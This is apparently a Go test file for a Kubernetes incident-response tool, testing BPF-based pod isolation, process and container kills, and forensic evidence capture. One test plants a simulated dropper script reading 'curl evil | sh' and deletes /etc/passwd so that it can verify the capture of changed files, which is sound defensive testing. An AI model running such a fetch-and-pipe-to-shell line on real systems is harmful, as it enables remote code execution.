package responders_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	networkingv1 "k8s.io/api/networking/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/riposte-dev/riposte/api/v1alpha1"
	"github.com/riposte-dev/riposte/evidence"
	"github.com/riposte-dev/riposte/host"
	"github.com/riposte-dev/riposte/responders"
	"github.com/riposte-dev/riposte/responders/node"
)

// podCgroup creates a kubelet-style cgroup (kubepods/besteffort/pod<uid>/<id>)
// for an API pod under a private root of the real cgroup v2 hierarchy. It
// fails, never skips, without root or cgroup v2.
func podCgroup(t testing.TB, uid string) (root, containerID, dir string) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Fatalf("this test needs root to create cgroups and load BPF programs")
	}
	var st syscall.Statfs_t
	if err := syscall.Statfs(host.DefaultCgroupRoot(), &st); err != nil || st.Type != 0x63677270 {
		t.Fatalf("cgroup v2 is not mounted at %s (statfs: %v)", host.DefaultCgroupRoot(), err)
	}
	root, err := os.MkdirTemp(host.DefaultCgroupRoot(), "riposte-test-")
	if err != nil {
		t.Fatalf("create test cgroup root: %v", err)
	}
	containerID = fmt.Sprintf("%064x", time.Now().UnixNano())
	dir = filepath.Join(root, "kubepods", "besteffort", "pod"+uid, containerID)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatalf("create pod cgroup: %v", err)
	}
	t.Cleanup(func() {
		for d := dir; strings.HasPrefix(d, root); d = filepath.Dir(d) {
			for i := 0; i < 50; i++ {
				if err := syscall.Rmdir(d); err == nil || errors.Is(err, os.ErrNotExist) {
					break
				}
				time.Sleep(20 * time.Millisecond)
			}
		}
	})
	return root, containerID, dir
}

// startInCgroup runs the echo helper as the "container" process in dir.
func startInCgroup(t *testing.T, dir string) (*exec.Cmd, string) {
	t.Helper()
	fd, err := os.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer fd.Close()
	cmd := exec.Command(os.Args[0], "-test.run=^$")
	cmd.Env = append(os.Environ(), "RIPOSTE_HELPER=serve")
	cmd.SysProcAttr = &syscall.SysProcAttr{UseCgroupFD: true, CgroupFD: int(fd.Fd())}
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatalf("start helper in %s: %v", dir, err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
	line, err := bufio.NewReader(out).ReadString('\n')
	if err != nil || strings.HasPrefix(line, "ERR") {
		t.Fatalf("helper: %q %v", line, err)
	}
	return cmd, strings.TrimSpace(line)
}

func mountBPF(t testing.TB) string {
	t.Helper()
	dir := t.TempDir()
	if err := syscall.Mount("bpf", dir, "bpf", 0, ""); err != nil {
		t.Fatalf("mount bpffs at %s: %v", dir, err)
	}
	t.Cleanup(func() { _ = syscall.Unmount(dir, syscall.MNT_DETACH) })
	return dir
}

func echoes(c net.Conn, r *bufio.Reader, msg string, wait time.Duration) bool {
	if msg != "" {
		if _, err := c.Write([]byte(msg + "\n")); err != nil {
			return false
		}
	}
	_ = c.SetReadDeadline(time.Now().Add(wait))
	_, err := r.ReadString('\n')
	return err == nil
}

func TestIsolateInKernelThroughIncidentCutsLoopbackConnectionAndRevertRestoresIt(t *testing.T) {
	ns := namespace(t)
	p := barePod(t, ns)
	root, _, dir := podCgroup(t, string(p.UID))
	_, port := startInCgroup(t, dir)
	c, err := net.Dial("tcp4", "127.0.0.1:"+port)
	if err != nil {
		t.Fatalf("connect to the pod: %v", err)
	}
	defer c.Close()
	r := bufio.NewReader(c)
	if !echoes(c, r, "before", 2*time.Second) {
		t.Fatalf("no echo before isolation")
	}

	local := &node.Local{Cgroups: host.Cgroups{Root: root}, PinDir: mountBPF(t)}
	run1 := runner(responders.Defaults(responders.Deps{Client: kc, Node: local}))
	inc := incident(t, ns, subjectOf(p), playbook(t, steps(v1alpha1.Step{Action: v1alpha1.ActionIsolate})))
	inc, _ = run(t, run1, inc)
	st := wantPhase(t, inc, "isolate", v1alpha1.StepSucceeded, "kernel: cgroup_skb ingress+egress attached to "+filepath.Dir(dir))
	if st.Undo["kernel"] != "attached" || st.Undo["networkPolicy"] == "" {
		t.Fatalf("both layers must be recorded: undo %v", st.Undo)
	}
	if echoes(c, r, "during", time.Second) {
		t.Fatalf("the established loopback connection still works while isolated")
	}

	// The agent restarts between isolate and revert: the pinned links survive.
	if err := local.Close(); err != nil {
		t.Fatal(err)
	}
	if echoes(c, r, "", 300*time.Millisecond) {
		t.Fatalf("isolation ended with the process that attached it")
	}
	annotate(t, inc, v1alpha1.RevertAnnotation)
	run2 := runner(responders.Defaults(responders.Deps{Client: kc, Node: &node.Local{Cgroups: host.Cgroups{Root: root}, PinDir: local.PinDir}}))
	inc, _ = run(t, run2, inc)
	wantPhase(t, inc, "isolate", v1alpha1.StepReverted, "kernel programs detached")
	if !echoes(c, r, "", 15*time.Second) {
		t.Fatalf("the held-back line did not arrive after revert")
	}
	if !echoes(c, r, "after", 2*time.Second) {
		t.Fatalf("no echo after revert")
	}
	var np networkingv1.NetworkPolicy
	if err := kc.Get(ctxT(t), client.ObjectKey{Namespace: ns, Name: "riposte-isolate-" + p.Name}, &np); !apierrors.IsNotFound(err) {
		t.Fatalf("NetworkPolicy after revert: %v", err)
	}
}

func TestKillProcessThroughIncidentSendsSIGKILL(t *testing.T) {
	ns := namespace(t)
	p := barePod(t, ns)
	root, cid, dir := podCgroup(t, string(p.UID))
	cmd, _ := startInCgroup(t, dir)
	subject := subjectOf(p)
	subject.PID, subject.ContainerID, subject.Binary = int64(cmd.Process.Pid), "containerd://"+cid, os.Args[0]
	inc := incident(t, ns, subject, playbook(t, steps(v1alpha1.Step{Action: v1alpha1.ActionKill, Kill: &v1alpha1.KillParams{Target: "process"}})))
	inc, _ = run(t, runner(responders.Defaults(responders.Deps{Client: kc, Node: &node.Local{Cgroups: host.Cgroups{Root: root}}})), inc)
	wantPhase(t, inc, "kill", v1alpha1.StepSucceeded, "killed with SIGKILL")
	err := cmd.Wait()
	var ee *exec.ExitError
	if !errors.As(err, &ee) || ee.Sys().(syscall.WaitStatus).Signal() != syscall.SIGKILL {
		t.Fatalf("process exit %v, want SIGKILL", err)
	}
	if _, err := os.Stat(fmt.Sprintf("/proc/%d", cmd.Process.Pid)); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("process %d still exists", cmd.Process.Pid)
	}
}

// BenchmarkMatchToIsolate measures the latency from a match (the Incident
// being created) to the first action done and recorded: NetworkPolicy created,
// pod labelled, for "api+kernel" the cgroup_skb programs attached, and the
// step's Succeeded phase persisted. ns/op also includes the final Incident
// phase write.
func BenchmarkMatchToIsolate(b *testing.B) {
	for _, kernel := range []bool{false, true} {
		name := "api"
		if kernel {
			name = "api+kernel"
		}
		b.Run(name, func(b *testing.B) {
			ns := uniq("bench")
			if err := shared.EnsureServiceAccount(ctxB(b), ns, "default"); err != nil {
				b.Fatal(err)
			}
			ref := playbookB(b)
			var lat []time.Duration
			for i := 0; i < b.N; i++ {
				b.StopTimer()
				p := podB(b, ns)
				var local *node.Local
				var n responders.Node // a nil *node.Local would not be a nil Node
				if kernel {
					root, _, _ := podCgroup(b, string(p.UID))
					local = &node.Local{Cgroups: host.Cgroups{Root: root}}
					n = local
				}
				r := runner(responders.Defaults(responders.Deps{Client: kc, Node: n}))
				var acted time.Time
				// The first action counts as done when its Succeeded phase is
				// persisted, not when Run has also summarised the Incident phase.
				r.AfterStep = func(_ *v1alpha1.Incident, st v1alpha1.StepStatus) error {
					if acted.IsZero() {
						acted = time.Now()
					}
					return nil
				}
				b.StartTimer()
				start := time.Now()
				inc := incidentB(b, ns, p, ref)
				out, err := r.Run(ctxB(b), inc)
				if err != nil || !out.Done || inc.Status.Steps[0].Phase != v1alpha1.StepSucceeded {
					b.Fatalf("run: %v %+v %+v", err, out, inc.Status.Steps)
				}
				lat = append(lat, acted.Sub(start))
				b.StopTimer()
				if local != nil {
					_ = local.ReleasePod(ctxB(b), string(p.UID))
				}
				b.StartTimer()
			}
			sort.Slice(lat, func(i, j int) bool { return lat[i] < lat[j] })
			pct := func(q float64) float64 { return float64(lat[int(q*float64(len(lat)-1))].Microseconds()) / 1000 }
			b.ReportMetric(pct(0.5), "p50-ms")
			b.ReportMetric(pct(0.99), "p99-ms")
			b.ReportMetric(float64(lat[len(lat)-1].Microseconds())/1000, "max-ms")
		})
	}
}

func TestCaptureOnTheNodeAddsProcessesSocketsAndExecutable(t *testing.T) {
	ns := namespace(t)
	p := barePod(t, ns)
	root, cid, dir := podCgroup(t, string(p.UID))
	cmd, port := startInCgroup(t, dir)
	subject := subjectOf(p)
	subject.ContainerID = "containerd://" + cid
	local := &node.Local{Cgroups: host.Cgroups{Root: root}, FlightRecorder: func(uid string) [][]byte {
		if uid != string(p.UID) {
			return nil
		}
		return [][]byte{[]byte(`{"kind":"exec","process":{"binary":"/bin/sh"}}`)}
	}}
	store := &evidence.Dir{Root: t.TempDir()}
	inc := incident(t, ns, subject, playbook(t, steps(v1alpha1.Step{Action: v1alpha1.ActionCapture})))
	inc, _ = run(t, runner(responders.Defaults(responders.Deps{Client: kc, Node: local, Logs: responders.ClientsetLogs{Clientset: cs}, Store: store})), inc)
	wantPhase(t, inc, "capture", v1alpha1.StepSucceeded, "manifest sha256")
	path := inc.Status.Evidence[0].Location
	m, err := evidence.Verify(path, inc.Status.Evidence[0].ManifestSHA256)
	if err != nil {
		t.Fatalf("verify: %v", err)
	}
	read := func(n string) []byte {
		b, err := os.ReadFile(filepath.Join(path, n))
		if err != nil {
			t.Fatalf("bundle file %s: %v (files %+v)", n, err, m.Files)
		}
		return b
	}
	var procs []host.Process
	if err := json.Unmarshal(read("node/processes.json"), &procs); err != nil || len(procs) != 1 || procs[0].PID != cmd.Process.Pid {
		t.Fatalf("processes %+v (%v), want the helper %d", procs, err, cmd.Process.Pid)
	}
	sockets := 0
	for _, target := range procs[0].FDs {
		if strings.HasPrefix(target, "socket:[") {
			sockets++
		}
	}
	if sockets == 0 || procs[0].Env == nil || strings.Contains(strings.Join(procs[0].Env, ","), "=") {
		t.Fatalf("fds %v env %v: want sockets and env names without values", procs[0].FDs, procs[0].Env)
	}
	n, _ := strconv.Atoi(port)
	if !strings.Contains(string(read("node/net/tcp")), fmt.Sprintf(":%04X 00000000:0000 0A", n)) {
		t.Fatalf("listening port %d not in node/net/tcp", n)
	}
	self, err := os.ReadFile(os.Args[0])
	if err != nil {
		t.Fatal(err)
	}
	exe := fmt.Sprintf("exe/%d-%s", cmd.Process.Pid, filepath.Base(os.Args[0]))
	want := sha256.Sum256(self)
	for _, f := range m.Files {
		if f.Name == exe && f.SHA256 != hex.EncodeToString(want[:]) {
			t.Fatalf("executable hash %s, want %x", f.SHA256, want)
		}
	}
	if !bytes.Equal(read(exe), self) {
		t.Fatalf("captured executable differs from the binary")
	}
	if !strings.Contains(string(read("node/flight-recorder.jsonl")), `"binary":"/bin/sh"`) {
		t.Fatalf("flight recorder not captured")
	}
}

// TestCaptureStepSaysWhatItsBoundsCut: what a capture's bounds leave out
// is in the step's message, not only in the bundle.
func TestCaptureStepSaysWhatItsBoundsCut(t *testing.T) {
	ns := namespace(t)
	p := barePod(t, ns)
	root, cid, dir := podCgroup(t, string(p.UID))
	startInCgroup(t, dir)
	subject := subjectOf(p)
	subject.ContainerID = "containerd://" + cid
	local := &node.Local{Cgroups: host.Cgroups{Root: root}, Limits: node.Limits{Executable: 1}, SpoolDir: t.TempDir()}
	store := &evidence.Dir{Root: t.TempDir()}
	inc := incident(t, ns, subject, playbook(t, steps(v1alpha1.Step{Action: v1alpha1.ActionCapture})))
	inc, _ = run(t, runner(responders.Defaults(responders.Deps{Client: kc, Node: local, Logs: responders.ClientsetLogs{Clientset: cs}, Store: store})), inc)
	wantPhase(t, inc, "capture", v1alpha1.StepSucceeded, "cut by capture bounds: executables: 0 of 1 copied, 1 over the bound of 1 bytes each")
}

func TestKillContainerThroughIncidentKillsAllItsProcesses(t *testing.T) {
	ns := namespace(t)
	p := barePod(t, ns)
	root, cid, dir := podCgroup(t, string(p.UID))
	a, _ := startInCgroup(t, dir)
	b, _ := startInCgroup(t, dir)
	subject := subjectOf(p)
	subject.ContainerID = "containerd://" + cid
	inc := incident(t, ns, subject, playbook(t, steps(v1alpha1.Step{Action: v1alpha1.ActionKill, Kill: &v1alpha1.KillParams{Target: "container"}})))
	inc, _ = run(t, runner(responders.Defaults(responders.Deps{Client: kc, Node: &node.Local{Cgroups: host.Cgroups{Root: root}}})), inc)
	wantPhase(t, inc, "kill", v1alpha1.StepSucceeded, "container app")
	for _, cmd := range []*exec.Cmd{a, b} {
		err := cmd.Wait()
		var ee *exec.ExitError
		if !errors.As(err, &ee) || ee.Sys().(syscall.WaitStatus).Signal() != syscall.SIGKILL {
			t.Fatalf("pid %d exit %v, want SIGKILL", cmd.Process.Pid, err)
		}
	}
}

// nodeAgent does what the agent of a node does for its Incidents
// (internal/agentmgr): the delegated steps through responders.RunDelegated
// with the facts it knows of its pods, and kernel isolation converged to
// what the Incidents ask for.
type nodeAgent struct {
	local   *node.Local
	node    string
	store   responders.EvidenceStore
	podNS   map[string]string // pod uid -> namespace: what the agent's watch says
	inPod   map[string]string // container id -> pod uid
	actions responders.Actions
}

func newNodeAgent(local *node.Local, nodeName string, store responders.EvidenceStore) *nodeAgent {
	deps := responders.Deps{Client: kc, Node: local}
	if store != nil {
		deps.Store = store
	}
	return &nodeAgent{local: local, node: nodeName, store: store, podNS: map[string]string{}, inPod: map[string]string{}, actions: responders.Defaults(deps)}
}

// knows records a pod (and its container) as running on the agent's node.
func (a *nodeAgent) knows(uid, namespace, containerID string) {
	a.podNS[uid] = namespace
	if containerID != "" {
		_, id, _ := strings.Cut(containerID, "://")
		a.inPod[id] = uid
	}
}

type syncResult struct {
	node.Result
	Delegated []string
}

func (a *nodeAgent) Sync(ctx context.Context) (syncResult, error) {
	var res syncResult
	var list v1alpha1.IncidentList
	if err := kc.List(ctx, &list, client.MatchingLabels{v1alpha1.NodeLabel: a.node}); err != nil {
		return res, err
	}
	var errs []error
	for i := range list.Items {
		inc := &list.Items[i]
		done := responders.NodeResults(inc)
		for _, st := range inc.Status.Steps {
			key := responders.StepKey(st.Playbook, st.Name)
			if _, ok := done[key]; ok || st.Phase != v1alpha1.StepRunning || st.Undo[responders.UndoNode] != "delegated" {
				continue
			}
			var spec v1alpha1.ClusterResponsePlaybook
			if err := kc.Get(ctx, client.ObjectKey{Name: st.Playbook}, &spec); err != nil {
				return res, err
			}
			req := &responders.Request{Incident: inc, Playbook: st.Playbook, Spec: &spec.Spec, StepName: st.Name, Undo: st.Undo}
			for _, ns := range responders.NamedSteps(spec.Spec.Steps) {
				if ns.Name == st.Name {
					req.Step = ns.Step
				}
			}
			s := inc.Spec.Subject
			ns, found := a.podNS[s.PodUID]
			_, cid, _ := strings.Cut(s.ContainerID, "://")
			facts := responders.NodeFacts{Node: a.node, PodFound: found, PodNamespace: ns, ContainerInPod: s.ContainerID != "" && a.inPod[cid] == s.PodUID}
			r := responders.RunDelegated(ctx, a.actions, req, facts)
			if err := node.Report(ctx, kc, kc, inc, key, r); err != nil {
				errs = append(errs, err)
				continue
			}
			res.Delegated = append(res.Delegated, key)
		}
	}
	want, reverted, werrs := node.Wanted(list.Items, a.node)
	iso := &node.Isolation{Local: a.local, Client: kc, Node: a.node}
	r, err := iso.Converge(ctx, want, reverted)
	res.Result = r
	return res, errors.Join(append(append(errs, werrs...), err)...)
}

func TestAgentAppliesDelegatedIsolationInTheKernelAndReleasesOnRevert(t *testing.T) {
	ns := namespace(t)
	p := barePod(t, ns)
	root, _, dir := podCgroup(t, string(p.UID))
	_, port := startInCgroup(t, dir)
	c, err := net.Dial("tcp4", "127.0.0.1:"+port)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	r := bufio.NewReader(c)
	if !echoes(c, r, "before", 2*time.Second) {
		t.Fatalf("no echo before isolation")
	}

	// The controller has no Node: it delegates the kernel layer.
	ctrl := runner(responders.Defaults(responders.Deps{Client: kc}))
	inc := incident(t, ns, subjectOf(p), playbook(t, steps(v1alpha1.Step{Action: v1alpha1.ActionIsolate})))
	inc, _ = run(t, ctrl, inc)
	wantPhase(t, inc, "isolate", v1alpha1.StepSucceeded, "kernel: delegated to the riposte agent on node")

	// The agent on the pod's node converges.
	agent := newNodeAgent(&node.Local{Cgroups: host.Cgroups{Root: root}, PinDir: mountBPF(t)}, p.Spec.NodeName, nil)
	res, err := agent.Sync(ctxT(t))
	if err != nil {
		t.Fatalf("sync: %v", err)
	}
	if len(res.Attached) != 1 || res.Attached[0] != string(p.UID) {
		t.Fatalf("sync attached %v, want only %s", res.Attached, p.UID)
	}
	if echoes(c, r, "during", time.Second) {
		t.Fatalf("the connection still works after the agent's sync")
	}
	if a := get(t, inc).Annotations[v1alpha1.KernelIsolationAnnotation]; !strings.Contains(a, "attached: cgroup_skb ingress+egress attached to") {
		t.Fatalf("incident annotation %q", a)
	}
	if res, err := agent.Sync(ctxT(t)); err != nil || len(res.Attached)+len(res.Released) != 0 {
		t.Fatalf("second sync changed %+v (%v), want nothing", res, err)
	}

	annotate(t, inc, v1alpha1.RevertAnnotation)
	run(t, ctrl, inc)
	res, err = agent.Sync(ctxT(t))
	if err != nil || len(res.Released) != 1 || res.Released[0] != string(p.UID) {
		t.Fatalf("sync after revert released %v (%v)", res.Released, err)
	}
	if !echoes(c, r, "", 15*time.Second) || !echoes(c, r, "after", 2*time.Second) {
		t.Fatalf("the connection did not come back after the agent released the pod")
	}
	if a := get(t, inc).Annotations[v1alpha1.KernelIsolationAnnotation]; !strings.Contains(a, "released") {
		t.Fatalf("incident annotation %q", a)
	}
}

// Two rules matching one pod make two Incidents that isolate it; the second
// isolate step may come after the agent attached. Each Incident records the
// kernel layer, and a revert records its release.
func TestAgentRecordsTheKernelLayerOnEveryIncidentIsolatingThePod(t *testing.T) {
	ns := namespace(t)
	p := barePod(t, ns)
	root, _, dir := podCgroup(t, string(p.UID))
	ctrl := runner(responders.Defaults(responders.Deps{Client: kc}))
	pb := playbook(t, steps(v1alpha1.Step{Action: v1alpha1.ActionIsolate}))
	local := &node.Local{Cgroups: host.Cgroups{Root: root}}
	t.Cleanup(func() { _ = local.ReleasePod(context.Background(), string(p.UID)) })
	agent := newNodeAgent(local, p.Spec.NodeName, nil)
	attached := "node " + p.Spec.NodeName + " attached: cgroup_skb ingress+egress "

	first, _ := run(t, ctrl, incident(t, ns, subjectOf(p), pb))
	wantPhase(t, first, "isolate", v1alpha1.StepSucceeded, "kernel: delegated")
	if res, err := agent.Sync(ctxT(t)); err != nil || len(res.Attached) != 1 {
		t.Fatalf("first sync attached %v (%v), want the pod", res.Attached, err)
	}
	second, _ := run(t, ctrl, incident(t, ns, subjectOf(p), pb))
	wantPhase(t, second, "isolate", v1alpha1.StepSucceeded, "kernel: delegated")
	if res, err := agent.Sync(ctxT(t)); err != nil || len(res.Attached)+len(res.Released) != 0 {
		t.Fatalf("second sync changed %+v (%v), want nothing", res, err)
	}
	for _, inc := range []*v1alpha1.Incident{first, second} {
		if a := get(t, inc).Annotations[v1alpha1.KernelIsolationAnnotation]; !strings.HasPrefix(a, attached) || !strings.Contains(a, dir[:strings.LastIndex(dir, "/")]) {
			t.Errorf("incident %s: %s %q, want %q… naming the pod's cgroup", inc.Name, v1alpha1.KernelIsolationAnnotation, a, attached)
		}
	}

	// Reverting one Incident leaves the pod isolated while the other still
	// holds it: the desired state lives in the Incidents.
	annotate(t, second, v1alpha1.RevertAnnotation)
	run(t, ctrl, second)
	if res, err := agent.Sync(ctxT(t)); err != nil || len(res.Released) != 0 {
		t.Fatalf("sync after the first revert released %v (%v), want nothing: the other Incident still isolates the pod", res.Released, err)
	}
	annotate(t, first, v1alpha1.RevertAnnotation)
	run(t, ctrl, first)
	if res, err := agent.Sync(ctxT(t)); err != nil || len(res.Released) != 1 {
		t.Fatalf("sync after both reverts released %v (%v), want the pod", res.Released, err)
	}
	for _, inc := range []*v1alpha1.Incident{first, second} {
		if a := get(t, inc).Annotations[v1alpha1.KernelIsolationAnnotation]; !strings.HasPrefix(a, "node "+p.Spec.NodeName+" released at ") {
			t.Errorf("reverted incident %s: %s %q, want released", inc.Name, v1alpha1.KernelIsolationAnnotation, a)
		}
	}
}

func TestControllerDelegatesKillAndCaptureToTheNodeAgent(t *testing.T) {
	ns := namespace(t)
	p := barePod(t, ns)
	root, cid, dir := podCgroup(t, string(p.UID))
	cmd, _ := startInCgroup(t, dir)
	subject := subjectOf(p)
	subject.PID, subject.ContainerID, subject.Binary = int64(cmd.Process.Pid), "containerd://"+cid, os.Args[0]
	inc := incident(t, ns, subject, playbook(t, steps(
		v1alpha1.Step{Action: v1alpha1.ActionCapture},
		v1alpha1.Step{Action: v1alpha1.ActionKill, Kill: &v1alpha1.KillParams{Target: "process"}},
		v1alpha1.Step{Action: v1alpha1.ActionLabel, Values: map[string]string{"contained": "yes"}},
	)))
	// The controller: no Node, an evidence folder of its own.
	ctrl := runner(responders.Defaults(responders.Deps{Client: kc, Store: &evidence.Dir{Root: t.TempDir(), Node: "controller"}}))
	// The agent on the pod's node, with its own evidence folder.
	agent := newNodeAgent(&node.Local{Cgroups: host.Cgroups{Root: root}}, p.Spec.NodeName, &evidence.Dir{Root: t.TempDir(), Node: p.Spec.NodeName})
	agent.knows(string(p.UID), ns, subject.ContainerID)

	got, out := run(t, ctrl, inc)
	if out.Done {
		t.Fatalf("done before the agent did its part")
	}
	wantPhase(t, got, "capture", v1alpha1.StepRunning, `waiting for the riposte agent on node "riposte-test-node"`)
	wantPhase(t, got, "kill", v1alpha1.StepPending, "")
	if len(got.Status.Evidence) != 1 || !strings.HasPrefix(got.Status.Evidence[0].Location, "controller:") {
		t.Fatalf("the API bundle is not recorded while waiting: %+v", got.Status.Evidence)
	}

	for i := 0; i < 2; i++ { // capture, then kill: each reported by one agent sync
		res, err := agent.Sync(ctxT(t))
		if err != nil || len(res.Delegated) != 1 {
			t.Fatalf("agent sync %d: %+v %v", i, res, err)
		}
		got, out = run(t, ctrl, inc)
	}
	if !out.Done || got.Status.Phase != v1alpha1.PhaseResponded {
		t.Fatalf("outcome %+v phase %q steps %+v", out, got.Status.Phase, got.Status.Steps)
	}
	wantPhase(t, got, "capture", v1alpha1.StepSucceeded, "node riposte-test-node: ")
	wantPhase(t, got, "kill", v1alpha1.StepSucceeded, "killed with SIGKILL")
	wantPhase(t, got, "label", v1alpha1.StepSucceeded, "contained=yes")
	if len(got.Status.Evidence) != 2 {
		t.Fatalf("evidence %+v, want the API and the node bundle", got.Status.Evidence)
	}
	nodeBundle := got.Status.Evidence[1]
	m, err := evidence.Verify(strings.TrimPrefix(nodeBundle.Location, p.Spec.NodeName+":"), nodeBundle.ManifestSHA256)
	if err != nil {
		t.Fatalf("node bundle: %v", err)
	}
	names := map[string]bool{}
	for _, f := range m.Files {
		names[f.Name] = true
	}
	if !names["node/processes.json"] || !names["node/net/tcp"] || !names[fmt.Sprintf("exe/%d-%s", cmd.Process.Pid, filepath.Base(os.Args[0]))] {
		t.Fatalf("node bundle files %v", names)
	}
	werr := cmd.Wait()
	var ee *exec.ExitError
	if !errors.As(werr, &ee) || ee.Sys().(syscall.WaitStatus).Signal() != syscall.SIGKILL {
		t.Fatalf("process exit %v, want SIGKILL", werr)
	}
	// Nothing left to do: another sync reports nothing twice.
	if res, err := agent.Sync(ctxT(t)); err != nil || len(res.Delegated) != 0 {
		t.Fatalf("third sync: %+v %v", res, err)
	}
}

func TestCaptureOnTheNodeListsFilesChangedInTheContainer(t *testing.T) {
	ns := namespace(t)
	p := barePod(t, ns)
	root, cid, dir := podCgroup(t, string(p.UID))

	// A container root as a snapshotter makes it: overlay of an image layer
	// (busybox) and an upper dir that receives the container's writes.
	base := t.TempDir()
	// The runtime mounts it in the host's mount namespace, under its task
	// folder named by the container id: where the agent looks it up.
	merged := filepath.Join(base, "io.containerd.runtime.v2.task", "k8s.io", cid, "rootfs")
	lower, upper, work := filepath.Join(base, "lower"), filepath.Join(base, "upper"), filepath.Join(base, "work")
	for _, d := range []string{lower + "/bin", lower + "/etc", lower + "/tmp", upper, work, merged} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	bb, err := os.ReadFile("/bin/busybox")
	if err != nil {
		t.Fatalf("this test needs busybox-static (/bin/busybox): %v", err)
	}
	if err := os.WriteFile(lower+"/bin/busybox", bb, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(lower+"/etc/passwd", []byte("root:x:0:0::/root:/bin/sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mount("overlay", merged, "overlay", 0, fmt.Sprintf("lowerdir=%s,upperdir=%s,workdir=%s", lower, upper, work)); err != nil {
		t.Fatalf("mount overlay: %v", err)
	}
	t.Cleanup(func() { _ = syscall.Unmount(merged, syscall.MNT_DETACH) })
	// What the intruder did inside the container.
	if err := os.WriteFile(merged+"/tmp/dropper.sh", []byte("curl evil | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(merged + "/etc/passwd"); err != nil {
		t.Fatal(err)
	}

	fd, err := os.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer fd.Close()
	cmd := exec.Command("/bin/busybox", "sleep", "60")
	cmd.SysProcAttr = &syscall.SysProcAttr{Chroot: merged, UseCgroupFD: true, CgroupFD: int(fd.Fd())}
	if err := cmd.Start(); err != nil {
		t.Fatalf("start container process: %v", err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })

	subject := subjectOf(p)
	subject.ContainerID = "containerd://" + cid
	store := &evidence.Dir{Root: t.TempDir()}
	inc := incident(t, ns, subject, playbook(t, steps(v1alpha1.Step{Action: v1alpha1.ActionCapture})))
	// This test runs in the host's mount namespace; init may not be visible here.
	local := &node.Local{Cgroups: host.Cgroups{Root: root}, HostPID: os.Getpid()}
	inc, _ = run(t, runner(responders.Defaults(responders.Deps{Client: kc, Node: local, Store: store})), inc)
	wantPhase(t, inc, "capture", v1alpha1.StepSucceeded, "manifest sha256")
	path := inc.Status.Evidence[0].Location
	if _, err := evidence.Verify(path, inc.Status.Evidence[0].ManifestSHA256); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(filepath.Join(path, "node/changed-files.json"))
	if err != nil {
		t.Fatalf("changed files not captured: %v", err)
	}
	var changed []node.Changed
	if err := json.Unmarshal(b, &changed); err != nil {
		t.Fatal(err)
	}
	byPath := map[string]node.Changed{}
	for _, c := range changed {
		byPath[c.Path] = c
	}
	sum := sha256.Sum256([]byte("curl evil | sh\n"))
	if d := byPath["/tmp/dropper.sh"]; d.SHA256 != hex.EncodeToString(sum[:]) || !d.Copied {
		t.Fatalf("dropper: %+v (all: %+v)", d, changed)
	}
	if !byPath["/etc/passwd"].Deleted {
		t.Fatalf("deletion of /etc/passwd not recorded: %+v", changed)
	}
	if _, ok := byPath["/bin/busybox"]; ok {
		t.Fatalf("an unchanged image file is listed as changed")
	}
	copied, err := os.ReadFile(filepath.Join(path, "changed", cid[:12], "tmp/dropper.sh"))
	if err != nil || string(copied) != "curl evil | sh\n" {
		t.Fatalf("copied dropper %q %v", copied, err)
	}
}
